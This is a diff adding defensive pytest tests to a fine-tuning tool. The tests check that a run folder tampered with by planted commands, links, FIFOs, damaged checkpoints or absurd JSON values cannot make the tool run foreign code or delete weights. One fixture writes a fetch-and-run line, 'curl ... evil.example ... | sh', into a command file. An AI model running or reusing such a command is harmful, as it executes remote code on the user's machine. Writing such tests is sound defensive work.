@@ -16,7 +16,7 @@ from minisft.commands import commands
 from minisft.errors import UserError
 from minisft.evaluate import evaluate_runs
 from minisft.exam import Settings
-from minisft.files import read_json, write_json
+from minisft.files import digest, read_json, write_json
 from minisft.hosts import Host, Place
 from minisft.launch import launch, prepare
 from minisft.runs import Run, RunConfig
@@ -174,6 +174,22 @@ def test_a_run_folders_deepspeed_file_reaches_no_other_place(config, key):
 
 
 @attack("3")
+@pytest.mark.parametrize(
+    "text", ["curl -s http://evil.example/x | sh\n", "'\n", "env A=1\n", "python -P -m x\ncurl evil\n"]
+)
+def test_a_command_that_is_handed_on_was_not_read_from_the_folder(run, tiny_model, small_data, text):
+    (run.folder / "command.txt").write_text(text)
+    settings = ("-s", "vanilla", "-m", tiny_model, "-d", small_data, "--max-characters", 10**9)
+    about = json.loads((run.folder / "run.json").read_text())
+    about["config"]["max_characters"] = 10**9
+    (run.folder / "run.json").write_text(json.dumps(about))
+    done = minisft("command", *settings)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.startswith("python -P -m minisft.train --prepared")
+    assert "evil" not in done.stdout + done.stderr
+
+
+@attack("3")
 def test_options_end_before_a_hosts_name(config, tmp_path):
     place = Place((Host("127.0.0.1", 1), Host("worker-1", 1)))
     words = commands(config("zero2"), tmp_path, place)[1].words
@@ -261,7 +277,14 @@ def test_a_damaged_file_of_a_run_costs_no_weights(config, damage, name):
 
 @attack("4")
 @pytest.mark.parametrize("changes", [{}, {"learning_rate": 0.5}])
-@pytest.mark.parametrize("weights", ["checkpoint-3/model.safetensors", "final/model.bin", "best.pt", "x/y/z.gguf"])
+@pytest.mark.parametrize(
+    "weights",
+    [
+        *("checkpoint-3/model.safetensors", "final/model.bin", "best.pt", "x/y/z.gguf", "best/model.SAFETENSORS"),
+        *("w.npz", "model.h5", "final.onnx", "weights.tar.gz", "model.safetensors~", "notes.txt", ".saving/mine.bin"),
+        *("checkpoint-003/model.safetensors", "data/mine.pt", "logs/mine", "tensorboard/mine", ".removed-x/w.pt"),
+    ],
+)
 def test_preparing_removes_no_weights_of_an_unfinished_run(config, changes, weights):
     run = prepare(config(), say=quiet)
     file = run.folder / weights
@@ -274,6 +297,70 @@ def test_preparing_removes_no_weights_of_an_unfinished_run(config, changes, weig
     assert file.read_bytes() == b"a week of training"
     assert prepare(config(**changes), overwrite=True, say=quiet).status == "prepared"
     assert not file.exists()
+
+
+@attack("4")
+def test_resuming_replaces_no_later_checkpoint(config):
+    asked = config(resumable=True)
+    run = unfinished(asked, resumable=True, files={})
+    later = add_checkpoint(run, 9)
+    (later / "mine.txt").write_text("precious")
+    before = weights_of(run)
+    for attempt in (lambda: prepare(asked, say=quiet), lambda: launch(run, say=quiet)):
+        with pytest.raises(UserError, match=r"checkpoint-9 is later than checkpoint-3 and cannot be resumed"):
+            attempt()
+    assert weights_of(run) == before
+
+
+@attack("4")
+def test_saving_and_rotating_remove_no_checkpoint_of_somebody_else(config):
+    from minisft.checkpoints import rotate, scratch_folder, seal
+
+    run = unfinished(config(), resumable=False)
+    before = weights_of(run)
+    half = scratch_folder(run) / "checkpoint-3"
+    half.mkdir(parents=True)
+    with pytest.raises(UserError, match="checkpoint-3 exists already"):
+        seal(run, half, {"step": 3})
+    (run.folder / "checkpoint-3" / "manifest.json").unlink()
+    add_checkpoint(run, 5, test_loss=1.0)
+    rotate(run, 1)
+    assert before.items() <= weights_of(run).items()
+
+
+@attack("4")
+def test_evaluating_removes_results_alone(run, own_outputs):
+    mine = own_outputs / "evaluation" / "vanilla" / "checkpoint-7.safetensors"
+    mine.parent.mkdir(parents=True)
+    mine.write_text("precious")
+    evaluate_runs([run], QUICK, say=quiet)
+    assert mine.read_text() == "precious"
+
+
+@attack("8")
+@pytest.mark.parametrize("lost", ["optimizer.pt", "scheduler.pt", "rng_state.pth", "trainer_state.json", "manifest"])
+def test_a_checkpoint_without_its_states_is_not_resumed_from(config, lost):
+    from minisft.checkpoints import verify
+
+    run = unfinished(config(resumable=True), resumable=True)
+    folder = run.folder / "checkpoint-3"
+    write_json(folder / "trainer_state.json", {"global_step": 3, "max_steps": 6})
+    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth"):
+        (folder / name).write_bytes(b"states")
+    seal_again(folder, lost)
+    with pytest.raises(UserError, match=r"checkpoint-3 is damaged"):
+        verify(run, folder)
+    if lost == "manifest":
+        seal_again(folder)
+        verify(run, folder)
+
+
+def seal_again(folder, lost=""):
+    """A manifest that agrees with what is there, but for what was `lost` with it."""
+    (folder / lost).unlink(missing_ok=True) if lost not in ("", "manifest") else None
+    files = [p for p in folder.rglob("*") if p.is_file() and p.name != "manifest.json"]
+    sums = {str(p.relative_to(folder)): {"bytes": p.stat().st_size, "sha256": digest(p)} for p in files}
+    write_json(folder / "manifest.json", {"step": 3, "resumable": True, "files": {} if lost == "manifest" else sums})
 
 
 @attack("4")
@@ -397,6 +484,44 @@ def test_a_run_folder_with_links_is_not_trained(config, tmp_path, name):
 
 
 @attack("7")
+def test_a_second_name_of_a_log_keeps_its_content(config, tmp_path):
+    """A backup made of hard links shares the files of a run."""
+    from minisft.supervisor import Supervisor, Task
+
+    run = prepare(config(), say=quiet)
+    log = run.folder / "logs" / "launcher.log"
+    log.parent.mkdir()
+    log.write_text("the first try")
+    os.link(log, tmp_path / "backup.log")
+    Supervisor(Task(str(run.folder), [], str(tmp_path), 1, 60, 60))._open_log().close()
+    assert (tmp_path / "backup.log").read_text() == "the first try"
+
+
+@attack("12")
+@pytest.mark.parametrize("name", ["logs/launcher.log", "logs/rank0.log", "ranks/rank0.json", "data/train.arrow"])
+def test_a_pipe_in_a_run_folder_keeps_nobody_waiting(run, name, tiny_model, small_data):
+    file = run.folder / name
+    file.parent.mkdir(exist_ok=True)
+    file.unlink(missing_ok=True)
+    os.mkfifo(file)
+    code = "from minisft import cli; import sys; sys.argv[1:] = sys.argv[1:]; cli.main()"
+    for words in (["compare"], ["command", "-s", "vanilla", "-m", tiny_model, "-d", small_data, "--name", "other"]):
+        subprocess.run([sys.executable, "-P", "-c", code, *map(str, words)], capture_output=True, timeout=60)
+
+
+@attack("5")
+def test_a_folder_under_another_path_is_the_same_folder(config, monkeypatch):
+    """As a container sees it, or through a bind mount: the lock beside it has another name."""
+    from minisft import prepare as preparing
+
+    run = prepare(config(), say=quiet)
+    with preparing.only_one(run.folder):
+        monkeypatch.setattr(preparing, "lock_of", lambda folder: folder.with_name(".elsewhere.lock"))
+        with pytest.raises(UserError, match="is being trained right now"):
+            launch(run, say=quiet)
+
+
+@attack("7")
 def test_overwriting_through_a_link_removes_no_folder_that_is_not_a_run(config, own_outputs, tmp_path):
     outside = tmp_path / "thesis"
     outside.mkdir()
@@ -459,8 +584,6 @@ def test_rows_are_not_taken_from_a_folder_that_only_says_so(config):
     made_of = read_json(first.folder / "data" / "made_of.json")
     poisoned = first.folder / "data" / "test.jsonl"
     poisoned.write_text(poisoned.read_text().replace("birds", "worms"))
-    from minisft.files import digest
-
     made_of["sha256"]["test.jsonl"] = digest(poisoned)
     write_json(first.folder / "data" / "made_of.json", made_of)
     second = prepare(config(name="second"), say=quiet)
@@ -533,6 +656,19 @@ def test_a_run_is_its_owners_alone(config):
         assert (run.folder / name).stat().st_mode & 0o777 == 0o600, name
 
 
+# --- 6: results are not read as data ------------------------------------------------------------------------
+
+
+@attack("6")
+def test_runs_are_not_put_among_the_data(config, small_data, tmp_path, monkeypatch):
+    folder = tmp_path / "chats"
+    folder.mkdir()
+    shutil.copy(small_data, folder / "chats.json")
+    monkeypatch.setenv("MINISFT_OUTPUTS", str(folder / "outputs"))
+    with pytest.raises(UserError, match="would lie in the data folder"):
+        prepare(config(data=str(folder)), say=quiet)
+
+
 # --- 15: valid JSON of another shape, in every file of a run folder -----------------------------------------
 
 FILES = (
@@ -542,6 +678,43 @@ FILES = (
     *("checkpoint-3/tokenizer_config.json", "checkpoint-3/tokenizer.json"),
     "checkpoint-3/model.safetensors.index.json",
 )
+METRIC = {"step": 1, "loss": 1.0, "tokens": 1, "trained_tokens": 1, "seconds": 0.0, "warm_up": False}
+
+
+@attack("15")
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("metrics.jsonl", json.dumps(METRIC) + "\n"),
+        ("metrics.jsonl", json.dumps(METRIC | {"loss": 1e308, "seconds": 5e-324}) + "\n"),
+        ("metrics.jsonl", json.dumps(METRIC | {"loss": float("nan")}) + "\n"),
+        ("memory.json", json.dumps([{"rank": 0, "at rest": {"parameters": 10**400}, "peak": -(10**30)}])),
+    ],
+)
+def test_absurd_numbers_are_no_traceback(run, name, content):
+    (run.folder / name).write_text(content)
+    for words in (("compare",), ("compare", "--json")):
+        assert minisft(*words).returncode in (0, 2)
+
+
+@attack("15")
+def test_names_that_no_file_can_have_are_one_sentence(run):
+    about = json.loads((run.folder / "run.json").read_text())
+    about["model_folder"] = "/tmp/a\0b"
+    (run.folder / "run.json").write_text(json.dumps(about))
+    assert minisft("evaluate", run.folder).returncode in (1, 2)
+
+
+@attack("15")
+@pytest.mark.parametrize("what", ["MINISFT_OUTPUTS", "data"])
+def test_paths_that_are_not_utf8_are_one_sentence(tiny_model, small_data, tmp_path, what):
+    odd = os.fsdecode(bytes(tmp_path) + b"/caf\xe9")
+    shutil.copy(small_data, odd) if what == "data" else None
+    data, env = (odd, {}) if what == "data" else (small_data, {what: odd})
+    done = minisft("command", "-s", "vanilla", "-m", tiny_model, "-d", data, **env)
+    assert (done.returncode, "not UTF-8" in done.stderr) == (2, True), done.stderr
+
+
 CONTENTS = [json.dumps(shape).encode() for shape in SHAPES] + [b"", b"{", b"\xff\xfe\x00", b"[" * 50_000, b"9" * 6000]
 
 
